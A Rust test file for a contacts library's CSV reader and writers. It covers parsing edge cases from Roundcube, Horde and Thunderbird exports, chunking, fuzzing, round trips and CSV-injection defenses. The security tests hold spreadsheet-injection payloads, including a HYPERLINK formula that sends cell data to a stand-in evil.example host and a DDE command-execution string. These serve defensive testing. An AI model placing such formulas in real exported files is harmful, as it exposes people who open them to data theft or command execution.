//! The CSV reader and writers over the test corpus (`tests/corpus/MANIFEST.txt`, CSV
//! section): row and field counts, names, raw e-mails, header detection; chunking invariance;
//! no panics on truncated or mutated input; writer quoting, CSV-injection neutralization and
//! round trips; Constant Contact's layout.

use contacts::csv::{self, Row, RowReader};
use contacts::{Batch, Contact, Email, Error, Format, Label, Name, Options, Phone};

#[path = "support/corpus.rs"]
mod support;
use support::{corpus, corpus_files, read_chunked};

/// Every CSV file of the corpus (UTF-8 or 8-bit ones: the UTF-16 file needs the stream
/// decoder and is tested through the importer), sorted.
fn corpus_csvs() -> Vec<(String, Vec<u8>)> {
    let mut files = corpus_files(&["csv"], ".csv");
    files.push((
        "security/synth__hostile_fields.csv".into(),
        corpus("security/synth__hostile_fields.csv"),
    ));
    files.sort();
    assert!(
        files.len() >= 20,
        "corpus incomplete: {} files",
        files.len()
    );
    files
}

/// Reads `bytes` through [`csv::Reader`] in chunks of `chunk` bytes (0: all at once).
fn read(bytes: &[u8], chunk: usize) -> Batch {
    read_chunked(csv::Reader::new(), bytes, chunk)
}

fn read_file(path: &str) -> Batch {
    read(&corpus(path), 0)
}

fn rows(bytes: &[u8]) -> (Vec<Row>, Vec<(u32, Error)>) {
    let mut reader = RowReader::new();
    let mut rows = Vec::new();
    let mut problems = Vec::new();
    reader.feed(bytes, &mut rows);
    reader.finish(&mut rows, &mut problems);
    (rows, problems)
}

fn field_counts(path: &str) -> Vec<usize> {
    rows(&corpus(path))
        .0
        .iter()
        .map(|r| r.cells.len())
        .collect()
}

fn contacts(batch: &Batch) -> Vec<&Contact> {
    batch.records.iter().map(|r| &r.contact).collect()
}

fn emails(contact: &Contact) -> Vec<&str> {
    contact.emails.iter().map(|e| e.address.as_str()).collect()
}

fn all_emails(batch: &Batch) -> Vec<&str> {
    contacts(batch).into_iter().flat_map(emails).collect()
}

fn display(contact: &Contact) -> Option<&str> {
    contact.name.display.as_deref()
}

fn given_family(contact: &Contact) -> (Option<&str>, Option<&str>) {
    (
        contact.name.given.as_deref(),
        contact.name.family.as_deref(),
    )
}

// ---- roundcube (expected/*.vcf are roundcube's own results) ----

#[test]
fn roundcube_gmail_legacy_layout() {
    let batch = read_file("csv/roundcube__gmail.csv");
    assert!(batch.problems.is_empty());
    let all = contacts(&batch);
    assert_eq!(all.len(), 1);
    let ada = all[0];
    assert_eq!(
        display(ada),
        Some("Prefix Firstname Middle Lastname Suffix")
    );
    assert_eq!(
        ada.name,
        Name {
            display: Some("Prefix Firstname Middle Lastname Suffix".into()),
            given: Some("Firstname".into()),
            middle: Some("Middle".into()),
            family: Some("Lastname".into()),
            prefix: Some("Prefix".into()),
            suffix: Some("Suffix".into()),
        }
    );
    assert_eq!(
        emails(ada),
        [
            "home@aaa.pl",
            "work@email.pl",
            "unknown@email.com",
            "other@email.com"
        ]
    );
    assert_eq!(ada.emails[0].label_raw.as_deref(), Some("* Home"));
    assert!(
        ada.emails[0].primary,
        "Google's '* ' marks the primary address"
    );
    assert_eq!(ada.emails[1].label_raw.as_deref(), Some("Work"));
    assert_eq!(ada.notes.as_deref(), Some("note\"note"));
    assert_eq!(ada.groups, ["My Contacts", "Test"]);
    assert_eq!(ada.nickname.as_deref(), Some("nick"));
    assert_eq!(ada.birthday.as_deref(), Some("1975-12-12"));
    assert_eq!(ada.organization.as_deref(), Some("company"));
    assert_eq!(ada.title.as_deref(), Some("jobtitle"));
    let phones: Vec<&str> = ada.phones.iter().map(|p| p.raw.as_str()).collect();
    assert_eq!(
        phones,
        [
            "pager",
            "mainphone",
            "homephone",
            "homefax",
            "mobile",
            "workphone",
            "workfax"
        ]
    );
    assert_eq!(ada.addresses.len(), 2);
    assert_eq!(ada.addresses[0].street[0], "home_street");
    assert_eq!(ada.addresses[0].locality.as_deref(), Some("home_city"));
    assert_eq!(ada.addresses[0].postal_code.as_deref(), Some("home_zip"));
    assert_eq!(ada.addresses[1].locality.as_deref(), Some("work_city"));
    assert_eq!(ada.addresses[1].region, None);
}

#[test]
fn roundcube_outlook_emails_only() {
    let batch = read_file("csv/roundcube__outlook.csv");
    assert_eq!(batch.records.len(), 1);
    assert_eq!(
        all_emails(&batch),
        ["test1@domain.tld", "test2@domain.tld", "test3@domain.tld"]
    );
    // No name: the normalizer falls back to the first e-mail for display.
    assert_eq!(display(contacts(&batch)[0]), None);
}

#[test]
fn roundcube_thunderbird_trailing_comma() {
    assert_eq!(field_counts("csv/roundcube__tb_plain.csv"), [38, 38]);
    let batch = read_file("csv/roundcube__tb_plain.csv");
    let all = contacts(&batch);
    assert_eq!(all.len(), 1);
    assert_eq!(display(all[0]), Some("Displayname"));
    assert_eq!(given_family(all[0]), (Some("Firstname"), Some("Lastname")));
    assert_eq!(emails(all[0]), ["test@domain.tld", "next@domain.tld"]);
    assert_eq!(all[0].birthday.as_deref(), Some("1970-11-15"));
    assert_eq!(all[0].department.as_deref(), Some("department"));
    assert_eq!(all[0].addresses.len(), 2);
    assert_eq!(all[0].addresses[1].country.as_deref(), Some("Poland"));
}

#[test]
fn roundcube_all_columns_with_bom() {
    // The importer strips the BOM before the reader; the reader tolerates it too.
    let import = contacts::import(
        &corpus("csv/roundcube__all.csv"),
        Options {
            merge: false,
            ..Options::default()
        },
    );
    assert_eq!(import.format, Some(Format::Csv));
    assert_eq!(import.contacts.len(), 1);
    let batch = read(&corpus("csv/roundcube__all.csv")[3..], 0);
    let all = contacts(&batch);
    assert_eq!(all.len(), 1);
    let contact = all[0];
    assert_eq!(display(contact), Some("Display Name"));
    assert_eq!(contact.name.prefix.as_deref(), Some("Prefix"));
    assert_eq!(
        given_family(contact),
        (Some("First Name"), Some("Last Name"))
    );
    assert_eq!(
        emails(contact),
        ["home@example.com", "work@example.com", "other@example.com"]
    );
    assert_eq!(contact.phones.len(), 13);
    assert_eq!(contact.birthday.as_deref(), Some("20/01/1991"));
    assert_eq!(contact.groups, ["test"]);
    assert_eq!(contact.addresses.len(), 3);
    assert_eq!(contact.addresses[1].street, ["Work Street"]);
    assert_eq!(contact.addresses[1].locality.as_deref(), Some("Work City"));
    assert_eq!(
        contact.extra.get("Gender"),
        Some(&serde_json::json!("female"))
    );
    let (header, _) = rows(&corpus("csv/roundcube__all.csv"));
    assert_eq!(header[0].cells[0], "Display Name", "BOM stripped");
    assert_eq!(
        format!("{:?}", read_file("csv/roundcube__all.csv")),
        format!("{batch:?}")
    );
}

#[test]
fn roundcube_single_email_column() {
    let batch = read_file("csv/roundcube__email.csv");
    assert_eq!(
        all_emails(&batch),
        [
            "test1@domain.tld",
            "test2@domain.tld",
            "test3@domain.tld",
            "test4@domain.tld"
        ]
    );
    let lines: Vec<u32> = batch.records.iter().map(|r| r.line).collect();
    assert_eq!(lines, [2, 3, 4, 5]);
}

// ---- horde (parsing edge cases) ----

#[test]
fn horde_outlook_2003_export() {
    assert_eq!(field_counts("csv/horde__bug_6311.csv"), [92, 92]);
    let batch = read_file("csv/horde__bug_6311.csv");
    let all = contacts(&batch);
    assert_eq!(all.len(), 1);
    assert_eq!(given_family(all[0]), (Some("John"), Some("Smith")));
    assert_eq!(emails(all[0]), ["john@example.com"]);
    assert_eq!(all[0].notes.as_deref(), Some("PHP\nPerl\nPython"));
    // "0/0/00" is no date.
    assert_eq!(all[0].birthday, None);
    assert!(!all[0].extra.values().any(|v| v == "0/0/00"));
}

#[test]
fn horde_embedded_quotes_and_newlines_do_not_shift_columns() {
    for path in ["csv/horde__bug_6370.csv", "csv/horde__bug_6372.csv"] {
        assert_eq!(field_counts(path), [92, 92], "{path}");
        let batch = read_file(path);
        assert_eq!(all_emails(&batch), Vec::<&str>::new(), "{path}");
        // The one row has a business street and nothing else a picker could use.
        let all = contacts(&batch);
        assert_eq!(all.len(), 1, "{path}");
        assert!(all[0].name.given.is_none() && all[0].name.family.is_none());
    }
    let batch = read_file("csv/horde__bug_6370.csv");
    assert_eq!(
        contacts(&batch)[0].addresses[0].street,
        ["Big Tower'\", 1\" Floor", "123 Main Street"]
    );
    let batch = read_file("csv/horde__bug_6372.csv");
    assert_eq!(
        contacts(&batch)[0].addresses[0].street,
        ["123, 12th Floor,", "Main Street"]
    );
}

#[test]
fn horde_cr_only_line_endings() {
    let (rows005, _) = rows(&corpus("csv/horde__005.csv"));
    let counts: Vec<usize> = rows005.iter().map(|r| r.cells.len()).collect();
    assert_eq!(counts, [4, 4, 3]);
    assert_eq!(rows005[1].cells[3], "I'm multiline\rField");
    let lines: Vec<u32> = rows005.iter().map(|r| r.line).collect();
    assert_eq!(lines, [1, 2, 4], "a CR inside quotes is a physical line");
    assert_eq!(field_counts("csv/horde__simple_cr.csv"), [3, 3]);
    let (simple, _) = rows(&corpus("csv/horde__simple_cr.csv"));
    assert_eq!(simple[1].cells, ["four", "five", "six"]);
}

#[test]
fn horde_ragged_rows() {
    assert_eq!(field_counts("csv/horde__001.csv"), [4, 3, 2, 1]);
    let (ragged, _) = rows(&corpus("csv/horde__001.csv"));
    // `, "Field 1-2"`: the space before the quote is trimmed and the quotes removed.
    assert_eq!(ragged[0].cells[1], "Field 1-2");
    // No header (nothing is a known column name): 4 records, row 1 included.
    let batch = read_file("csv/horde__001.csv");
    assert_eq!(batch.records.len(), 4);
    assert_eq!(display(contacts(&batch)[0]), Some("Field 1-1"));
}

#[test]
fn horde_multiline_fields() {
    let (multi, problems) = rows(&corpus("csv/horde__multiline1.csv"));
    assert!(problems.is_empty());
    assert_eq!(multi.len(), 4);
    assert!(multi.iter().all(|r| r.cells.len() == 3));
    assert_eq!(multi[0].cells[2], "three\nfour");
    assert_eq!(multi[3].cells[2], "three\n four");
    let lines: Vec<u32> = multi.iter().map(|r| r.line).collect();
    assert_eq!(lines, [1, 3, 5, 7]);
}

#[test]
fn horde_quotes() {
    let (quote7, _) = rows(&corpus("csv/horde__quote7.csv"));
    assert_eq!(quote7.len(), 2);
    assert_eq!(quote7[1].cells[1], "five\"six");
    assert_eq!(quote7[1].cells[2], "seven\n\"eight\"");
    // Backslash escapes are not RFC 4180: documented result, the backslash stays and the
    // quote after it closes the quoted part; still 2 rows of 3 cells, no problem reported.
    let (quote6, problems) = rows(&corpus("csv/horde__quote6.csv"));
    assert!(problems.is_empty());
    assert_eq!(quote6.len(), 2);
    assert_eq!(
        quote6[1].cells,
        ["four", "five\\six\"", "seven\n\\eight\\\"\""]
    );
}

// ---- Thunderbird ----

#[test]
fn thunderbird_layouts() {
    for path in [
        "csv/thunderbird__basic_csv_addressbook.csv",
        "csv/thunderbird__csv_semicolon.csv",
        "csv/thunderbird__csv_no_header.csv",
    ] {
        let batch = read_file(path);
        assert!(batch.problems.is_empty(), "{path}");
        let all = contacts(&batch);
        assert_eq!(all.len(), 2, "{path}");
        assert_eq!(display(all[0]), Some("John Doe"), "{path}");
        assert_eq!(display(all[1]), Some("Jane Doe"), "{path}");
        assert_eq!(given_family(all[1]), (Some("Jane"), Some("Doe")), "{path}");
        assert_eq!(
            all_emails(&batch),
            ["john@doe.invalid", "jane@doe.invalid"],
            "{path}"
        );
    }
    // Without a header the first row is a contact, on line 1.
    let batch = read_file("csv/thunderbird__csv_no_header.csv");
    assert_eq!(batch.records[0].line, 1);
}

// ---- synthetic ----

#[test]
fn google_current_layout() {
    let batch = read_file("csv/synth__google_contacts_current_layout.csv");
    let all = contacts(&batch);
    assert_eq!(all.len(), 4);
    assert_eq!(
        all_emails(&batch),
        [
            "ADA@Example.org",
            "ada@home.example",
            "ada.lovelace@work.example",
            "ada@example.org",
            "jose@example.es"
        ]
    );
    let ada = all[0];
    assert_eq!(given_family(ada), (Some("Ada"), Some("Lovelace")));
    assert_eq!(ada.groups, ["myContacts", "Friends"]);
    assert_eq!(
        ada.notes.as_deref(),
        Some("Met at\nthe conference, \"Difference\" talk")
    );
    assert_eq!(ada.organization.as_deref(), Some("Analytical Engines"));
    assert_eq!(ada.phones[0].raw, "+44 20 7946 0000");
    assert_eq!(ada.phones[0].label_raw.as_deref(), Some("Mobile"));
    let charles = all[1];
    assert_eq!(given_family(charles), (Some("Charles"), Some("Babbage")));
    assert!(charles.emails.is_empty());
    assert_eq!(charles.phones.len(), 1);
    assert!(all[2].name.given.is_none(), "the nameless row is kept");
    assert_eq!(all[3].name.given.as_deref(), Some("José"));
    assert_eq!(all[3].birthday.as_deref(), Some("--04-16"));
    let lines: Vec<u32> = batch.records.iter().map(|r| r.line).collect();
    assert_eq!(lines, [2, 4, 5, 6], "Ada's notes span two lines");
    // 4 unique addresses once lower-cased (de-duplication itself is dedupe's job).
    let mut unique: Vec<String> = all_emails(&batch)
        .iter()
        .map(|e| e.to_lowercase())
        .collect();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), 4);
}

#[test]
fn german_outlook_semicolon_windows_1252() {
    let batch = read_file("csv/synth__outlook_de_semicolon_cp1252.csv");
    assert!(batch.problems.is_empty());
    let all = contacts(&batch);
    assert_eq!(all.len(), 2);
    assert_eq!(given_family(all[0]), (Some("Jürgen"), Some("Müller")));
    assert_eq!(all[0].organization.as_deref(), Some("Müller; Söhne GmbH"));
    assert_eq!(all[0].birthday, None, "0.0.00 is no date");
    assert_eq!(all[0].addresses[0].locality.as_deref(), Some("Köln"));
    assert_eq!(all[0].phones[0].raw, "0171 1234567");
    assert_eq!(emails(all[0]), ["juergen.mueller@example.de"]);
    assert_eq!(given_family(all[1]), (Some("Zoë"), Some("Weiß")));
    // Raw: both spellings; the normalizer/dedupe make them one address.
    assert_eq!(
        emails(all[1]),
        ["zoe.weiss@example.at", "ZOE.WEISS@EXAMPLE.AT"]
    );
    assert_eq!(
        all[1].notes.as_deref(),
        Some("Notiz mit \"Anführungszeichen\"\r\nund Zeilenumbruch")
    );
    assert_eq!(all[1].birthday.as_deref(), Some("24.12.1980"));
}

#[test]
fn outlook_unicode_text_utf16le_tab_through_the_importer() {
    let import = contacts::import(
        &corpus("csv/synth__outlook_unicode_utf16le_tab.txt"),
        Options {
            source: "contacts.txt".into(),
            merge: false,
            ..Options::default()
        },
    );
    assert_eq!(import.format, Some(Format::Csv));
    let got: Vec<(Option<&str>, Option<&str>, Vec<&str>)> = import
        .contacts
        .iter()
        .map(|c| (c.name.given.as_deref(), c.name.family.as_deref(), emails(c)))
        .collect();
    assert_eq!(
        got,
        [
            (Some("Zoë"), Some("Ångström"), vec!["zoe@example.com"]),
            (
                Some("Łukasz"),
                Some("Żółć"),
                vec!["lukasz@example.pl", "l.zolc@example.com"]
            ),
            (Some("李"), Some("小龙"), vec!["bruce@example.cn"]),
        ]
    );
    // The quoted note with CRLF and TAB stays in one cell (normalized: CRLF to LF, tab to space).
    assert_eq!(
        import.contacts[1].notes.as_deref(),
        Some("line one\nline two with tab")
    );
}

#[test]
fn hostile_fields_are_read_as_text() {
    let batch = read_file("security/synth__hostile_fields.csv");
    assert_eq!(batch.records.len(), 15);
    assert!(batch.records.iter().all(|r| r.contact.emails.len() == 1));
    assert_eq!(
        display(contacts(&batch)[0]),
        Some("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")")
    );
}

// ---- streaming properties ----

#[test]
fn chunking_does_not_change_the_result() {
    for (path, bytes) in corpus_csvs() {
        let whole = format!("{:?}", read(&bytes, 0));
        for chunk in [1, 7, 4096] {
            assert_eq!(
                format!("{:?}", read(&bytes, chunk)),
                whole,
                "{path} in {chunk}-byte chunks"
            );
        }
    }
}

#[test]
fn truncated_quote_is_reported_and_other_rows_kept() {
    let input =
        b"Name,E-mail Address\nAda,ada@example.org\n\"Bob,bob@example.org\nCy,cy@example.org\n";
    let batch = read(input, 3);
    assert_eq!(batch.problems.len(), 1);
    assert_eq!(batch.problems[0].0, 3);
    assert!(matches!(batch.problems[0].1, Error::Truncated(_)));
    assert_eq!(all_emails(&batch), ["ada@example.org", "cy@example.org"]);
    let lines: Vec<u32> = batch.records.iter().map(|r| r.line).collect();
    assert_eq!(lines, [2, 3, 4]);
}

/// A deterministic pseudo-random sequence (xorshift64), so failures reproduce.
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[test]
fn no_panic_on_truncated_or_mutated_input() {
    let mut random = XorShift(0x9E37_79B9_7F4A_7C15);
    let special = [
        b'"', b',', b';', b'\t', b'\r', b'\n', b'@', 0xFF, 0xC3, b'\\',
    ];
    for (_path, bytes) in corpus_csvs() {
        let step = (bytes.len() / 60).max(1);
        for end in (0..bytes.len()).step_by(step) {
            let batch = read(&bytes[..end], 1 + end % 61);
            for record in &batch.records {
                assert!(record.line >= 1);
            }
        }
        for _ in 0..40 {
            let mut mutated = bytes.clone();
            let edits = 1 + random.next() % 8;
            for _ in 0..edits {
                if mutated.is_empty() {
                    break;
                }
                let at = (random.next() % mutated.len() as u64) as usize;
                let byte = special[(random.next() % special.len() as u64) as usize];
                match random.next() % 3 {
                    0 => mutated[at] = byte,
                    1 => mutated.insert(at, byte),
                    _ => {
                        mutated.remove(at);
                    }
                }
            }
            let chunk = 1 + (random.next() % 64) as usize;
            let _ = read(&mutated, chunk);
            let _ = csv::write(
                &contacts(&read(&mutated, 0))
                    .into_iter()
                    .cloned()
                    .collect::<Vec<_>>(),
            );
        }
    }
}

// ---- writers ----

fn ada() -> Contact {
    Contact {
        name: Name {
            display: Some("Ada Lovelace".into()),
            given: Some("Ada".into()),
            family: Some("Lovelace".into()),
            ..Name::default()
        },
        emails: vec![
            Email {
                address: "ada@example.org".into(),
                label: Label::Home,
                primary: true,
                ..Email::default()
            },
            Email {
                address: "countess@work.example".into(),
                label: Label::Work,
                ..Email::default()
            },
        ],
        phones: vec![Phone {
            number: "+442079460000".into(),
            raw: "+44 20 7946 0000".into(),
            e164: true,
            label: Label::Mobile,
            ..Phone::default()
        }],
        organization: Some("Analytical Engines, Ltd.".into()),
        groups: vec!["Friends".into(), "Science".into()],
        notes: Some("Met at\nthe conference, \"Difference\" talk".into()),
        ..Contact::default()
    }
}

#[test]
fn write_reads_back() {
    let bob = Contact {
        name: Name {
            display: Some("=cmd|' /C calc'!A0".into()),
            ..Name::default()
        },
        ..Contact::default()
    };
    let text = csv::write(&[ada(), bob]);
    assert!(text.starts_with("Name,Given Name,Middle Name,Family Name,"));
    assert!(text.contains("\r\n"));
    let batch = read(text.as_bytes(), 0);
    let all = contacts(&batch);
    assert_eq!(all.len(), 2);
    let back = all[0];
    assert_eq!(back.name.display.as_deref(), Some("Ada Lovelace"));
    assert_eq!(emails(back), ["ada@example.org", "countess@work.example"]);
    assert!(back.emails[0].primary);
    assert_eq!(back.emails[0].label_raw.as_deref(), Some("* Home"));
    assert_eq!(
        back.phones[0].raw, "'+442079460000",
        "OWASP: a leading + gets a '"
    );
    assert_eq!(
        back.organization.as_deref(),
        Some("Analytical Engines, Ltd.")
    );
    assert_eq!(back.groups, ["Friends", "Science"]);
    assert_eq!(back.notes, ada().notes);
    assert_eq!(all[1].name.display.as_deref(), Some("'=cmd|' /C calc'!A0"));
}

#[test]
fn written_hostile_cells_are_neutralized() {
    // Every value with a formula prefix, straight into the writer (the reader trims the TAB
    // and CR ones away, so build them here).
    let hostile = ["=1+1", "+1+1", "-2+3", "@SUM(1)", "\tTAB", "\rCR"];
    let people: Vec<Contact> = hostile
        .iter()
        .map(|value| Contact {
            name: Name {
                display: Some(value.to_string()),
                ..Name::default()
            },
            notes: Some(value.to_string()),
            ..Contact::default()
        })
        .collect();
    let mut file_contacts: Vec<Contact> =
        contacts(&read_file("security/synth__hostile_fields.csv"))
            .into_iter()
            .cloned()
            .collect();
    file_contacts.extend(people);
    let text = csv::write(&file_contacts);
    let (written, problems) = rows(text.as_bytes());
    assert!(problems.is_empty());
    assert_eq!(written.len(), 1 + 15 + hostile.len());
    for row in &written {
        for cell in &row.cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "unneutralized cell {cell:?}"
            );
        }
    }
    // Raw check on the text too (the row reader trims): no cell starts with TAB or CR.
    assert!(!text.contains(",\t") && !text.contains(",\"\t") && !text.contains(",\"\r"));
}

#[test]
fn constant_contact_layout() {
    assert_eq!(
        csv::constant_contact_header(),
        "EMAIL ADDRESS,FIRST NAME,MIDDLE NAME,LAST NAME,JOB TITLE,COMPANY NAME,WORK PHONE,\
         HOME PHONE,ADDRESS LINE 1,ADDRESS LINE 2,ADDRESS LINE 3,CITY,STATE,COUNTRY,POSTAL CODE"
    );
    let row = csv::constant_contact_row(&ada()).expect("has an e-mail");
    assert_eq!(
        row,
        "ada@example.org,Ada,,Lovelace,,\"Analytical Engines, Ltd.\",,+442079460000,,,,,,,"
    );
    assert_eq!(csv::constant_contact_row(&Contact::default()), None);
    let text = csv::write_constant_contact(&[ada(), Contact::default(), ada()]);
    assert_eq!(text.lines().count(), 3);
    assert!(text.ends_with('\n') && !text.contains('\r'));
    // The layout reads back through our own reader (Constant Contact column names).
    let batch = read(text.as_bytes(), 0);
    assert_eq!(all_emails(&batch), ["ada@example.org", "ada@example.org"]);
    assert_eq!(
        given_family(contacts(&batch)[0]),
        (Some("Ada"), Some("Lovelace"))
    );
}
